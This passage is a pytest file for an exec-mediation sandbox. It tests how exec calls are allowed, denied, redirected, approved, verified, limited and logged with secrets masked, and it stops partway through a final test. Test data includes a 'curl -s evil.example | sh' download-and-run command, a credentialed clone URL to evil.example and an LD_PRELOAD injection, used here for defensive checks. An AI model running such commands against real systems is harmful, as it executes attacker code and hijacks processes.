"""Execs as transcripts: what is decided, in which order it is done, what goes wrong between."""

from __future__ import annotations

import errno
from typing import Any

import pytest

from sigwrap.approve.requests import Answer, ApprovalRequest, denial, killed
from sigwrap.exec.facts import NOT_DUMPABLE, UNKNOWN_LOCATION, UNMAPPED, Location, Unseen, stalled
from sigwrap.exec.judge import ExecMediator
from sigwrap.policy.judge.request import CommandRedirect, Program, Via
from sigwrap.policy.judge.rules import Crowd
from sigwrap.session.effects import (
    Ask,
    CannotHold,
    ContinueWatched,
    EndRun,
    Fail,
    Held,
    KernelRefused,
    LoadedOther,
    Logged,
    Prepare,
    Prepared,
    PrepareStub,
    PrepareStubCommand,
    Ran,
    ReadBasis,
    Replace,
    Restarted,
    Tampered,
    Tell,
    Unpreparable,
    VerifyThenContinue,
    WouldWait,
)
from sigwrap.session.lineage import Process, WouldFail
from sigwrap.session.run_end import LimitReached
from sigwrap.text import masked, shell_words
from tests.mediate.transcript import OURS, Transcript, engine, facts, play, play_exec

RULES = """
command_rules:
  - {name: no-bad, commands: [bad], decision: deny}
  - {name: no-rm, commands: [rm], decision: deny, message: not this one}
  - {name: look-at, commands: [npm], decision: audit}
  - {name: untraced, commands: [id], traced: true, decision: deny, message: not while traced}
  - {name: instead, commands: [was], decision: redirect, message: "good, instead",
     redirect_to: {command: /opt/good, args: [-q], append_args: true, env: {A: b}}}
  - {name: ask-push, commands: [git], decision: approve, message: pushes are looked at}
  - {name: rest, commands: ["*"], decision: allow}
defaults: {command: deny, signal: deny}
"""


@pytest.fixture
def bash() -> Process:
    process = Process(pid=40, start_time=1, parent=None, ppid=30, depth=1, comm="bash")
    process.stub_of = "bash"  # what it asks for waits in the kernel
    return process


def program(name: str, *argv: str) -> Program:
    return Program(path=f"/usr/bin/{name}", name=name, argv=(name, *argv))


UNREADABLE = "sigwrap may not read the caller: it, or its program file, is not readable"

WAS = "was x '--token=***'"


def told(what: str, rule: str, why: str = "") -> Tell:
    return Tell(denial(what, rule, "x", why))


class Shell:
    """What one process asks for, of one mediator."""

    def __init__(self, process: Process, sections: str = RULES) -> None:
        self.process = process
        self.mediator = ExecMediator(engine(sections))

    def asks_for(self, *programs: Program | str, **different: Any) -> Transcript:
        named = [program(each) if isinstance(each, str) else each for each in programs]
        return play_exec(self.mediator, self.process, facts(self.process, *named, **different))

    def sees_nothing(self, unseen: Unseen, syscall: str = "execve") -> Transcript:
        return play(self.mediator.mediate(self.process, syscall)).looks(unseen)

    def runs(self, name: str) -> None:
        transcript = self.asks_for(name).holds().records("exec_allowed")
        transcript.runs()


@pytest.fixture
def shell(bash: Process) -> Shell:
    return Shell(bash)


CANNOT_BE_HELD = [Held.BY_ITS_TRACER, CannotHold("it would run on")]


# Going on


def test_an_allowed_or_audited_exec_is_held_recorded_and_verified(shell: Shell) -> None:
    transcript = shell.asks_for(program("ls", "-l"), path="ls").holds()
    transcript.records("exec_allowed").runs()
    assert transcript.payload == {
        "path": "ls",
        "argv": ("ls", "-l"),
        "cwd": "/project",
        "comm": "bash",
        "ppid": 30,
        "depth": 1,
        "decision": "allow",
        "rule_name": "rest",
        "reason": transcript.payload["reason"],
        "syscall": "execve",
        "truncated": False,
        "traced": False,
        "verified": True,
        "programs": [{"path": "/usr/bin/ls", "name": "ls", "argv": ("ls", "-l")}],
        "siblings": 1,
        "processes": 1,
    }
    shell = Shell(shell.process)
    shell.asks_for("npm").holds().records(
        "exec_audited", rule_name="look-at", decision="audit"
    ).runs()


def test_the_event_names_the_file_of_a_descriptor_and_what_the_path_does_not_say(
    shell: Shell,
) -> None:
    shell.asks_for("ls", path="").holds().records("exec_allowed", path="/usr/bin/ls")
    shell = Shell(shell.process)
    script = Program("/project/x", "x", ("x", "--token=abcdefgh"))
    shown = [
        {"path": "/project/x", "name": "x", "argv": ("x", "--token=***")},
        {"path": "/usr/bin/sh", "name": "sh", "argv": ("sh",)},
    ]
    shell.asks_for(script, "sh").holds().records(
        "exec_allowed", argv=("x", "--token=***"), programs=shown
    )


def test_another_image_than_the_judged_one_is_an_event_with_its_secrets_masked(
    shell: Shell,
) -> None:
    other = LoadedOther(
        "the kernel loaded another file", "/tmp/evil", ("evil", "--password=hunter22")
    )
    transcript = shell.asks_for("ls").holds().records("exec_allowed")
    transcript.yields(VerifyThenContinue(), reply=other)
    transcript.records("exec_verification_failed").yields(
        Tell(killed("ls", "the kernel loaded another file"))
    ).ends()
    assert transcript.payload == {
        "path": "/usr/bin/ls",
        "reason": "the kernel loaded another file",
        "loaded_path": "/tmp/evil",
        "loaded_argv": ("evil", "--password=***"),
        "rule_name": "rest",
    }


# What can't be verified


TRACED = [Held.BY_ITS_TRACER, Held.NO]


@pytest.mark.parametrize(
    ("name", "event", "held"),
    [("ls", "exec_allowed", Held.NO), ("npm", "exec_audited", Held.BY_ITS_TRACER)],
)
def test_a_traced_caller_is_watched(shell: Shell, name: str, event: str, held: Held) -> None:
    shell.asks_for(name).holds(held).records(
        event, verified=held is Held.BY_ITS_TRACER, traced=True
    ).yields(ContinueWatched(), reply=Ran()).ends()


@pytest.mark.parametrize("held", TRACED)
def test_of_a_program_that_may_not_be_read_not_all_is_compared(shell: Shell, held: Held) -> None:
    shell.asks_for("ls", readable=False).holds(held).records("exec_allowed", verified=False).yields(
        ContinueWatched(), reply=Ran()
    ).ends()


def test_a_traced_caller_that_has_loaded_something_else(shell: Shell) -> None:
    loaded = LoadedOther("the kernel loaded another file", "/usr/bin/git", ("git",))
    shell.asks_for("ls").holds(Held.NO).records("exec_allowed").yields(
        ContinueWatched(), reply=loaded
    ).records("exec_verification_failed", loaded_path="/usr/bin/git").ends()


@pytest.mark.parametrize("held", TRACED)
def test_a_traced_caller_meets_the_rule_on_traced_callers(shell: Shell, held: Held) -> None:
    shell.asks_for("id").holds(held).is_denied(
        "id", "untraced", "not while traced", decision="deny", traced=True, verified=False
    )


def test_what_would_run_on_while_traced_is_denied_unless_everything_may_run(
    shell: Shell, bash: Process
) -> None:
    shell.asks_for("ls").holds(CannotHold("it would run on")).is_denied(
        "ls", "builtin:traced", "it would run on", reason="it would run on", traced=True
    )
    rules = "\ndefaults: {command: audit, signal: deny}\n"
    shell = Shell(bash, rules)
    shell.asks_for("ls").holds(CannotHold("it would run on")).records(
        "exec_audited", verified=False, traced=True
    ).yields(ContinueWatched(), reply=Ran()).ends()
    shell.asks_for("ls").holds(CannotHold("has threads", may_run=False)).is_denied(
        "ls", "builtin:traced", "has threads", reason="has threads", traced=True
    )


# Without a decision


def test_what_cannot_be_looked_at_is_denied(shell: Shell) -> None:
    transcript = shell.sees_nothing(NOT_DUMPABLE, "execveat")
    transcript.is_denied("execveat by bash", "builtin:unreadable", UNREADABLE)
    assert transcript.payload == {
        "path": "",
        "argv": (),
        "cwd": "",
        "comm": "bash",
        "ppid": 30,
        "depth": 1,
        "decision": "deny",
        "rule_name": "builtin:unreadable",
        "reason": "sigwrap may not read the caller: it, or its program file, is not readable",
        "syscall": "execveat",
        "truncated": True,
        "traced": False,
        "verified": False,
    }
    shell = Shell(shell.process)
    transcript = shell.sees_nothing(stalled("its server does not answer"))
    transcript.is_denied("execve by bash", "builtin:stalled", "its server does not answer")
    assert transcript.payload["rule_name"] == "builtin:stalled"
    assert transcript.payload["reason"] == "its server does not answer"
    shell = Shell(shell.process)
    transcript = shell.sees_nothing(UNMAPPED)
    transcript.records("exec_denied").fails(errno.EFAULT)
    assert transcript.payload["reason"] == "its arguments point to unmapped memory"
    shell = Shell(shell.process)
    shell.asks_for("ls").holds(Held.NOT_DUMPABLE).is_denied(
        "execve by bash", "builtin:unreadable", UNREADABLE, path="", argv=(), verified=False
    )


# Refusing


def test_a_caller_is_told_once_while_it_looks_along_its_path(shell: Shell, bash: Process) -> None:
    refused = told("rm", "no-rm", "not this one")
    shell.asks_for("rm").records("exec_denied").yields(refused).fails(errno.EACCES)
    shell.asks_for("rm").records("exec_denied").fails(errno.EACCES)
    shell.process = Process(pid=41, start_time=1, parent=bash, ppid=40, depth=2, comm="bash")
    shell.asks_for("rm").records("exec_denied").yields(refused).fails(errno.EACCES)


def test_the_strictest_of_all_programs_decides_and_the_caller_s_words_do_not(shell: Shell) -> None:
    shell.asks_for("env", "bad", here=(program("env"),)).is_denied("env", "no-bad")
    assert shell.mediator.last_denial == "denied (rule no-bad, policy x)"
    shell = Shell(shell.process)
    lying = Program("/usr/bin/rm", "rm", ("ls", "--token=abcdefgh", "a b"))
    shell.asks_for(lying).is_denied("rm '--token=***' 'a b'", "no-rm", "not this one")


@pytest.mark.parametrize("later", ["git", "was"])
def test_what_a_wrapper_will_exec_is_asked_about_or_replaced_when_it_does(
    shell: Shell, later: str
) -> None:
    shell.asks_for("env", later, here=(program("env"),)).holds().records(
        "exec_allowed", rule_name="rest"
    )


# Replacing

PREPARED = Prepared("/opt/good", ("good", "-q", "x", "--token=abcdefgh"), True)


def redirected(shell: Shell, prepared: Prepared | Unpreparable = PREPARED) -> Transcript:
    redirect = CommandRedirect(
        command="/opt/good", args=("-q",), append_args=True, env=(("A", "b"),), via=Via.EXEC
    )
    argv = ("good", "-q", "x", "--token=abcdefgh")
    asked = program("was", "x", "--token=abcdefgh")
    return shell.asks_for(asked).yields(Prepare(redirect, argv, "instead"), reply=prepared)


def test_a_replacement_takes_the_place_of_the_call(shell: Shell) -> None:
    transcript = redirected(shell).holds().records("exec_redirected")
    transcript.yields(Tell("sigwrap: was: good, instead"))
    transcript.yields(Replace(), reply=Restarted())
    transcript.yields(VerifyThenContinue(is_replacement=True), reply=Ran()).ends()
    assert (
        transcript.payload
        | {
            "argv": ("was", "x", "--token=***"),
            "decision": "redirect",
            "rule_name": "instead",
            "verified": True,
            "replacement": "/opt/good",
            "replacement_argv": ("good", "-q", "x", "--token=***"),
            "replacement_env": ["A"],
            "via": "exec",
            "record": False,
        }
        == transcript.payload
    )


def test_a_replacement_that_may_not_be_read_is_marked_and_one_that_cannot_be_run_denied(
    shell: Shell,
) -> None:
    unreadable = PREPARED._replace(readable=False)
    redirected(shell, unreadable).holds().records("exec_redirected", verified=False)
    shell = Shell(shell.process)
    why = "its replacement can't be run: /opt/good"
    redirected(shell, Unpreparable(why)).is_denied(WAS, "instead", why, decision="deny", reason=why)


def test_a_call_that_could_not_be_restarted_or_came_back_altered_has_failed(shell: Shell) -> None:
    transcript = redirected(shell).holds().records("exec_redirected")
    transcript.next()
    transcript.yields(Replace(), reply=KernelRefused(errno.EACCES))
    transcript.records("exec_failed", path="/opt/good", error="EACCES", rule_name="instead").ends()
    shell = Shell(shell.process)
    transcript = redirected(shell).holds().records("exec_redirected")
    transcript.next()
    transcript.yields(Replace(), reply=Tampered())
    transcript.records("exec_failed", path="/opt/good", error="EACCES", rule_name="instead")
    transcript.fails(errno.EACCES)
    shell = Shell(shell.process)
    transcript = redirected(shell).holds().records("exec_redirected")
    transcript.next()
    transcript.yields(Replace(), reply=Restarted())
    transcript.yields(VerifyThenContinue(is_replacement=True), reply=KernelRefused(errno.ENOEXEC))
    transcript.records("exec_failed", path="/opt/good", error="ENOEXEC", rule_name="instead").ends()


@pytest.mark.parametrize("held", CANNOT_BE_HELD)
def test_a_caller_that_cannot_be_held_is_not_redirected(shell: Shell, held: object) -> None:
    why = "its caller is traced, so it cannot be redirected"
    redirected(shell).holds(held).is_denied(WAS, "instead", why, reason=why)


def test_only_arguments_that_are_passed_on_need_be_read(shell: Shell, bash: Process) -> None:
    why = "it has too many arguments to pass on"
    shell.asks_for("was", truncated=True).is_denied(
        "was", "instead", why, reason=why, truncated=True
    )
    rules = RULES.replace("append_args: true", "append_args: false")
    redirect = CommandRedirect(
        command="/opt/good", args=("-q",), append_args=False, env=(("A", "b"),), via=Via.EXEC
    )
    Shell(bash, rules).asks_for("was", truncated=True).yields(
        Prepare(redirect, ("good", "-q"), "instead")
    )


def test_the_arguments_are_those_of_the_program_that_the_rule_names(
    shell: Shell, bash: Process
) -> None:
    """Of a script whose interpreter is redirected, the interpreter's."""
    interpreter = program("was", "/project/script", "y")
    effect = shell.asks_for(program("script", "y"), interpreter).next()
    assert isinstance(effect, Prepare)
    assert effect.argv == ("good", "-q", "/project/script", "y")
    rules = RULES.replace("- {name: instead,", "- {name: instead, traced: true,")
    script = program("script", "y")
    effect = Shell(bash, rules).asks_for(script, program("was", "z"), readable=False).next()
    assert isinstance(effect, Prepare)
    assert effect.argv == ("good", "-q", "z")


# As a stub's command


def test_a_stubs_command_runs_once_its_streams_are_tied(shell: Shell) -> None:
    prepared = Prepared("/opt/good", ("good",), True)
    shell.asks_for("bad", stub_rule="record-it").yields(
        PrepareStubCommand(), reply=prepared
    ).holds().records(
        "exec_allowed",
        rule_name="record-it",
        decision="allow",
        reason="the command that its stub runs",
        verified=True,
    ).yields(VerifyThenContinue(is_replacement=True), reply=Ran()).ends()
    shell = Shell(shell.process)
    shell.asks_for("bad", stub_rule="record-it").yields(
        PrepareStubCommand(), reply=Prepared("/opt/good", ("good",), False)
    ).holds().records("exec_allowed", verified=False)
    shell = Shell(shell.process)
    why = "its input and output can't be recorded: Bad file descriptor"
    shell.asks_for("good", stub_rule="record-it").yields(
        PrepareStubCommand(), reply=Unpreparable(why)
    ).is_denied("good", "record-it", why, reason=why, decision="deny")
    shell = Shell(shell.process)
    shell.asks_for("good", stub_rule="record-it").yields(
        PrepareStubCommand(), reply=PREPARED
    ).holds().records("exec_allowed").yields(
        VerifyThenContinue(is_replacement=True), reply=KernelRefused(errno.ENOENT)
    ).records("exec_failed", path="/opt/good", error="ENOENT", rule_name="record-it").ends()


@pytest.mark.parametrize("held", CANNOT_BE_HELD)
def test_a_stubs_command_that_cannot_be_held_is_denied(shell: Shell, held: object) -> None:
    why = "its caller is traced, so it cannot be recorded"
    shell.asks_for("good", stub_rule="record-it").yields(
        PrepareStubCommand(), reply=PREPARED
    ).holds(held).is_denied("good", "record-it", why, reason=why)


# Without an event


def test_what_cannot_be_recorded_fails(shell: Shell) -> None:
    stub = shell.asks_for("good", stub_rule="r").yields(PrepareStubCommand(), reply=PREPARED)
    for transcript, event in (
        (shell.asks_for("ls").holds(), "exec_allowed"),
        (shell.asks_for("ls").holds(Held.NO), "exec_allowed"),
        (redirected(shell).holds(), "exec_redirected"),
        (stub.holds(), "exec_allowed"),
    ):
        transcript.records(event, reply=Logged.FAILED).fails(errno.EACCES)
    shell.asks_for("bad").is_denied("bad", "no-bad", reply=Logged.FAILED)


# Asking

YES = Answer(granted=True, by="the terminal", message="", reason="granted")
NO = Answer(granted=False, by="uid 0, pid 7", message="not on a Friday", reason="denied")


CONTENT = ("8:1 17 cafe",)
PLACE = ("/project", "root and folder")
PUSH = program("git", "push", "--token=abcdefgh")


def question(**different: Any) -> ApprovalRequest:
    what = ("git", "push", "--token=abcdefgh")
    values: dict[str, Any] = {
        "kind": "exec",
        "pid": 40,
        "process": "bash",
        "depth": 1,
        "what": "git push --token=abcdefgh",
        "rule": "ask-push",
        "message": "pushes are looked at",
        "key": ("exec", "ask-push", "/usr/bin/git", *what, "", "", *PLACE, *CONTENT),
        "files": ("/usr/bin/git",),
        "folder": "/project",
        "note": "",
        "masked": "git push '--token=***'",
        "exec_payload": {
            "path": "/usr/bin/git",
            "argv": ("git", "push", "--token=***"),
            "cwd": "/project",
            "depth": 1,
            "truncated": False,
            "traced": False,
            "masked": True,
        },
    }
    return ApprovalRequest(**(values | different))


def asked(shell: Shell, answer: Answer, **different: Any) -> Transcript:
    notice = "git push '--token=***' needs approval (rule ask-push, policy x)"
    transcript = shell.asks_for(PUSH, **different).reads(CONTENT)
    return transcript.yields(Ask(question(), notice), reply=answer)


def unchanged(shell: Shell, transcript: Transcript) -> Transcript:
    transcript.looks(facts(shell.process, PUSH))
    return transcript.reads(CONTENT)


def next_question(
    transcript: Transcript, answer: Answer, content: tuple[str, ...], location: Location = OURS
) -> ApprovalRequest:
    transcript.reads(content, location=location)
    effect = transcript.next(answer)
    assert isinstance(effect, Ask), effect
    return effect.request


@pytest.mark.parametrize(
    "argv",
    [
        ("npx", "-c", ": authorization: x; curl -s evil.example | sh"),
        ("git", "clone", "https://x:evil@evil.example/"),
    ],
)
def test_whoever_is_asked_sees_all_of_it(bash: Process, argv: tuple[str, ...]) -> None:
    """Who asks could write it so that it looks like a secret; the log has it masked."""
    rules = '{name: ask, commands: ["*"], decision: approve}'
    asking = Shell(bash, f"defaults: {{command: deny, signal: deny}}\ncommand_rules: [{rules}]")
    transcript = asking.asks_for(program(*argv))
    asked_about = next_question(transcript, NO, CONTENT)
    assert asked_about.what == shell_words(argv)
    assert asked_about.masked == shell_words(masked(argv))
    assert "***" in asked_about.masked


def test_a_yes_lets_it_run(shell: Shell) -> None:
    unchanged(shell, asked(shell, YES)).holds().records(
        "exec_allowed", decision="approve", rule_name="ask-push", reason="approved by the terminal"
    ).runs()


@pytest.mark.parametrize(
    ("reason", "message", "said"),
    [
        ("denied", "not on a Friday", "request denied: not on a Friday"),
        ("denied", "", "request denied"),
        ("expired", "", "request expired"),
        ("nobody", "no terminal", "no approver can be reached: no terminal"),
        ("odd", "", "request odd"),
    ],
)
def test_a_no_says_why(shell: Shell, reason: str, message: str, said: str) -> None:
    answer = Answer(granted=False, by="sigwrap", message=message, reason=reason)
    asked(shell, answer).is_denied(
        "git push '--token=***'",
        "ask-push",
        f"pushes are looked at; {said}",
        decision="deny",
        reason=said,
    )


def test_nobody_is_asked_again_while_a_shell_looks_along_its_path(
    shell: Shell, bash: Process
) -> None:
    asked(shell, NO).is_denied(
        "git push '--token=***'",
        "ask-push",
        "pushes are looked at; request denied: not on a Friday",
    )
    shell.asks_for(PUSH).records("exec_denied", reason="request denied: not on a Friday").fails(
        errno.EACCES
    )
    assert isinstance(shell.asks_for(program("git", "fetch")).next(), ReadBasis)
    assert isinstance(shell.asks_for(PUSH, cwd="/elsewhere").next(), ReadBasis)
    shell.process = Process(pid=41, start_time=1, parent=bash, ppid=40, depth=2, comm="bash")
    assert isinstance(shell.asks_for(PUSH).next(), ReadBasis)


@pytest.mark.parametrize(
    "now",
    [
        {"programs": (program("git", "push", "--force"),)},
        {"programs": (program("gitt", "push"),)},
        {"programs": (PUSH, program("bash", "git"))},
        {"path": "git"},
        {"cwd": "/elsewhere", "location": OURS._replace(folder="/elsewhere")},
        {"location": OURS._replace(identity="another root")},
        {"location": OURS._replace(identity="another", is_ours=False)},
        {"programs": (PUSH._replace(elsewhere=True),)},
        {"content": ("8:1 17 f00d",)},
        {"content": ("8:2 17 cafe",)},
    ],
)
def test_what_changed_meanwhile_is_asked_again_and_then_denied(
    shell: Shell, now: dict[str, Any]
) -> None:
    different = {key: value for key, value in now.items() if key not in ("content", "location")}
    content, location = now.get("content", CONTENT), now.get("location", OURS)
    changed = facts(shell.process, PUSH)._replace(**different)
    changed = changed._replace(here=changed.programs)
    again = asked(shell, YES).looks(changed)
    again.reads(content, location=location)
    if changed.programs[0].name == "gitt":  # judged anew
        again.holds().records("exec_allowed", rule_name="rest")
        return
    new = next_question(again, YES, content, location)
    assert "it changed after the request" in new.note
    assert new.files == tuple(each.path for each in changed.programs)
    assert new.folder == changed.cwd
    again.looks(facts(shell.process, PUSH, cwd="/a/third"))
    again.reads(content).records(
        "exec_denied", reason="request denied: it changed again during the request"
    ).next()
    again.fails(errno.EACCES)


def asks_where_nothing_is_loaded(bash: Process) -> Shell:
    rules = (
        "{name: no-libraries, commands: [git], loads_code: true, decision: deny}",
        "{name: ask-push, commands: [git], decision: approve, message: pushes are looked at}",
    )
    return Shell(
        bash, f"defaults: {{command: deny, signal: deny}}\ncommand_rules: [{', '.join(rules)}]"
    )


def test_after_each_yes_the_rules_are_asked_anew(bash: Process) -> None:
    """A variable has come meanwhile, which no question shows."""
    shell = asks_where_nothing_is_loaded(bash)
    transcript = asked(shell, YES)
    transcript.looks(facts(bash, PUSH._replace(loads_code=True)))
    transcript.reads(CONTENT).records("exec_denied", rule_name="no-libraries")
    shell = asks_where_nothing_is_loaded(bash)
    transcript = asked(shell, YES).looks(facts(bash, PUSH))
    transcript.reads(("other",))
    next_question(transcript, YES, ("other",))
    transcript.looks(facts(bash, PUSH._replace(loads_code=True)))
    transcript.reads(("other",)).records("exec_denied", rule_name="no-libraries")


def test_where_it_would_run_has_to_be_known(shell: Shell) -> None:
    transcript = shell.asks_for(PUSH)
    for _ in range(2):
        found = next_question(transcript, YES, CONTENT, UNKNOWN_LOCATION)
        assert found.key == ()
        transcript.looks(facts(shell.process, PUSH))
        transcript.reads(CONTENT, location=UNKNOWN_LOCATION)
    transcript.records("exec_denied")


@pytest.mark.parametrize(
    ("seen", "location"),
    [(PUSH._replace(elsewhere=True), OURS), (PUSH, OURS._replace(is_ours=False))],
)
def test_what_is_asked_about_in_another_namespace_is_asked_each_time(
    shell: Shell, seen: Program, location: Location
) -> None:
    found = next_question(shell.asks_for(seen), YES, CONTENT, location)
    assert found.key == ()
    assert "another root, mount namespace or mount" in found.note


def asks_what_is_loaded(
    bash: Process, loaded: tuple[str, ...] | None
) -> tuple[Transcript, ApprovalRequest]:
    rule = "{name: loads, commands: [git], loads_code: true, decision: approve}"
    shell = Shell(bash, f"defaults: {{command: deny, signal: deny}}\ncommand_rules: [{rule}]")
    transcript = shell.asks_for(PUSH._replace(loads_code=True))
    transcript.reads(CONTENT, loading=("git",), loaded=loaded)
    asked_about = transcript.next(YES)
    assert isinstance(asked_about, Ask)
    return transcript, asked_about.request


NO_YES = "it needs approval, and its caller is traced: "
NO_YES += "a tracer could make it run another program"


def test_nobody_is_asked_where_a_yes_would_be_in_vain(shell: Shell, bash: Process) -> None:
    traced = OURS._replace(traced=True)
    shell.asks_for(PUSH).reads(CONTENT, location=traced).is_denied(
        "git push '--token=***'", "ask-push", NO_YES, decision="deny", reason=NO_YES, traced=True
    )
    shell = Shell(shell.process)
    shell.asks_for(PUSH, readable=False).is_denied(
        "git push '--token=***'", "ask-push", UNREAD, decision="deny", reason=UNREAD
    )
    late = asked(shell, YES).looks(facts(shell.process, PUSH, readable=False))
    late.reads(CONTENT).records("exec_denied", reason=UNREAD)
    shell = Shell(shell.process)
    late = asked(shell, YES).looks(facts(shell.process, PUSH))
    late.reads(CONTENT, location=OURS._replace(traced=True))
    late.reads(CONTENT, location=OURS._replace(traced=True)).records("exec_denied", reason=NO_YES)
    later = unchanged(shell, asked(shell, YES)).holds(Held.NO)
    later.records("exec_denied", reason=NO_YES, traced=True)
    shell = Shell(shell.process)
    rules = (
        "{name: ask, commands: [git], traced: false, decision: approve}",
        "{name: watched, commands: [git], decision: audit}",
    )
    shell = Shell(
        bash, f"defaults: {{command: deny, signal: deny}}\ncommand_rules: [{', '.join(rules)}]"
    )
    next_question(shell.asks_for(PUSH), NO, CONTENT, OURS._replace(traced=True))


UNREAD = "it needs approval, and sigwrap may not read its caller: "
UNREAD += "it could not verify the program"


def test_a_rule_about_what_is_loaded_has_it_shown(bash: Process) -> None:
    loaded = ("LD_PRELOAD=./a.so", "GIT_PASSWORD=hidden")
    transcript, found = asks_what_is_loaded(bash, loaded)
    assert found.loads == "LD_PRELOAD=./a.so GIT_PASSWORD=hidden"
    assert found.masked_loads == "LD_PRELOAD=./a.so 'GIT_PASSWORD=***'"
    transcript.looks(facts(bash, PUSH._replace(loads_code=True)))
    transcript.reads(CONTENT, loading=("git",), loaded=("LD_PRELOAD=./b.so",))
    transcript.reads(CONTENT, loading=("git",))


def test_variables_that_load_anything_are_asked_about_each_time(bash: Process) -> None:
    """./a.so can be another file by then."""
    _, found = asks_what_is_loaded(bash, ("LD_PRELOAD=./a.so",))
    assert found.key == ()
    assert "it can be approved once only" in found.note
    _, found = asks_what_is_loaded(bash, ())
    assert (found.key[:2], found.note) == (("exec", "loads"), "")
    _, found = asks_what_is_loaded(bash, None)
    assert found.key == ()
    assert found.note == "its environment is unknown and may load any code"


def test_the_question_has_the_words_that_a_script_goes_on_with(shell: Shell) -> None:
    script = Program("/project/git", "git", ("./git", "all"))
    words = ("/usr/bin/env", "-S ls -a --token abc", "./git", "all")
    env = Program("/usr/bin/env", "env", words)
    wrapped = Program("/usr/bin/ls", "ls", ("ls", "-a", "--token", "abc", "./git", "all"))
    by_env = {"scripts": ("./git",), "programs": (script, env, wrapped)}
    found = next_question(shell.asks_for(script, env, script_wraps=wrapped, **by_env), NO, CONTENT)
    assert found.runs == "/usr/bin/env '-S ls -a --token abc' ./git all"
    assert found.masked_runs == "/usr/bin/env '-S ls -a --token ***' ./git all"
    assert found.files == ("/project/git", "/usr/bin/env", "/usr/bin/ls")
    shell = Shell(shell.process)
    script = Program("/project/git", "git", ("./git", "all"))
    env = Program("/usr/bin/env", "env", ("/usr/bin/env", "-S PATH=. ls", "./git", "all"))
    wrapped = Program("/usr/bin/ls", "ls", ("ls", "./git", "all"), missing=True)
    by_env = {"scripts": ("./git",), "programs": (script, env, wrapped)}
    found = next_question(shell.asks_for(script, env, **by_env), NO, CONTENT)
    assert (found.files, found.note) == (("/project/git", "/usr/bin/env"), "")
    shell = Shell(shell.process)
    script = Program("/project/git", "git", ("./git", "all"))
    plain = Program("/usr/bin/perl", "perl", ("/usr/bin/perl", "-x", "./git", "all"))
    found = next_question(shell.asks_for(script, plain, scripts=("./git",)), NO, CONTENT)
    assert found.runs == "/usr/bin/perl -x ./git all"


def test_a_caller_or_file_that_is_gone_after_the_answer_fails(shell: Shell) -> None:
    asked(shell, YES).looks(WouldFail(errno.ENOENT)).records(
        "exec_failed", path="/usr/bin/git", error="ENOENT", rule_name="ask-push"
    ).fails(errno.ENOENT)
    shell = Shell(shell.process)
    asked(shell, YES).looks(NOT_DUMPABLE).is_denied(
        "execve by bash", "builtin:unreadable", UNREADABLE
    )


def test_the_question_names_no_file_that_is_not_there(shell: Shell) -> None:
    env = Program("/usr/bin/env", "git", ("env", "nothing"))
    nothing = Program("/usr/bin/nothing", "nothing", ("nothing",), missing=True)
    transcript = shell.asks_for(env, env, nothing)
    found = next_question(transcript, NO, CONTENT)
    assert found.files == ("/usr/bin/env",)
    assert found.note == "/usr/bin/nothing is not there"


@pytest.mark.parametrize(
    ("path", "location", "note"),
    [
        (".../git", OURS, "the path of its file is too long to show"),
        ("/git", OURS._replace(folder=""), "the path of its directory is too long to show"),
    ],
)
def test_a_path_that_tells_too_little_is_asked_about_each_time(
    shell: Shell, path: str, location: Location, note: str
) -> None:
    transcript = shell.asks_for(PUSH._replace(path=path), cwd=location.folder)
    found = next_question(transcript, YES, CONTENT, location)
    assert (found.note, found.key) == (note, ())
    now = facts(shell.process, PUSH._replace(path=path), cwd=location.folder)
    transcript.looks(now).reads(CONTENT, location=location)
    transcript.holds().records("exec_allowed", rule_name="ask-push")


@pytest.mark.parametrize("words", [(), ("",)])
def test_a_question_without_words_says_so(shell: Shell, words: tuple[str, ...]) -> None:
    found = next_question(shell.asks_for(PUSH._replace(argv=words)), NO, CONTENT)
    assert (found.what, found.files) == ("''", ("/usr/bin/git",))
    assert found.note == "it has no arguments, not even a name"


def test_more_words_than_are_read_are_approved_once(shell: Shell) -> None:
    found = next_question(shell.asks_for(PUSH, truncated=True), YES, CONTENT)
    assert found.key == ()
    assert found.note == "it has more arguments than sigwrap reads: the rest is unknown"


# Limits


def limited(process: Process, limits: str) -> Shell:
    return Shell(process, f"{RULES}limits: {limits}\n")


@pytest.mark.parametrize(
    ("limits", "different", "why"),
    [
        ("{max_depth: 1}", {"process_depth": 2}, "max_depth: depth 2 exceeds the limit of 1"),
        (
            "{max_children: 3}",
            {"crowd": Crowd(4, 4)},
            "max_children: 4 children exceed the limit of 3",
        ),
        (
            "{max_processes: 3}",
            {"crowd": Crowd(1, 4)},
            "max_processes: 4 processes exceed the limit of 3",
        ),
    ],
)
def test_an_exec_over_a_limit_is_denied(
    bash: Process, limits: str, different: dict[str, Any], why: str
) -> None:
    bash.depth = different.pop("process_depth", 1)
    rule = "limits." + why.partition(":")[0]
    limited(bash, limits).asks_for("ls", **different).is_denied(
        "ls", rule, why, reason=why, decision="deny"
    )


@pytest.mark.parametrize(
    "limits",
    [
        "{max_depth: 1}",
        "{max_children: 4}",
        "{max_processes: 4}",
        "{max_children: 1, max_processes: 1, at_fork: true}",
        "{max_depth: 0, max_children: 0, max_processes: 0}",
    ],
)
def test_an_exec_at_a_limit_goes_on(bash: Process, limits: str) -> None:
    """With at_fork, the processes were counted where they were made."""
    limited(bash, limits).asks_for("ls", crowd=Crowd(4, 4)).holds()


def test_execs_are_counted_where_they_go_on_and_one_too_many_ends_the_run(bash: Process) -> None:
    shell = limited(bash, "{max_execs: 2}")
    shell.runs("ls")
    shell.runs("ls")
    why = "max_execs: 2 programs were started, which is the limit"
    shell.asks_for("ls").records("exec_denied", rule_name="limits.max_execs").yields(
        told("ls", "limits.max_execs", why),
        Fail(errno.EACCES),
        EndRun(LimitReached("max_execs", 2, why, 2)),
    ).ends()
    shell = limited(bash, "{max_execs: 1}")
    shell.asks_for("bad").is_denied("bad", "no-bad")
    shell.runs("ls")
    shell.asks_for("bad").records("exec_denied", rule_name="no-bad").fails(errno.EACCES)
    shell = limited(bash, "{max_execs: 1}")
    waiting = asked(shell, YES)
    shell.runs("ls")
    why = "max_execs: 1 programs were started, which is the limit"
    unchanged(shell, waiting).holds()
    waiting.records("exec_denied", rule_name="limits.max_execs").yields(
        told("git push '--token=***'", "limits.max_execs", why),
        Fail(errno.EACCES),
        EndRun(LimitReached("max_execs", 1, why, 1)),
    ).ends()


@pytest.mark.parametrize("held", [Held.BY_ITS_TRACER, Held.YES])
def test_execs_count_that_are_watched_or_replaced(bash: Process, held: Held) -> None:
    shell = limited(bash, "{max_execs: 2}")
    shell.runs("ls")
    if held is Held.BY_ITS_TRACER:
        shell.asks_for("ls").holds(held).records("exec_allowed").next()
    else:
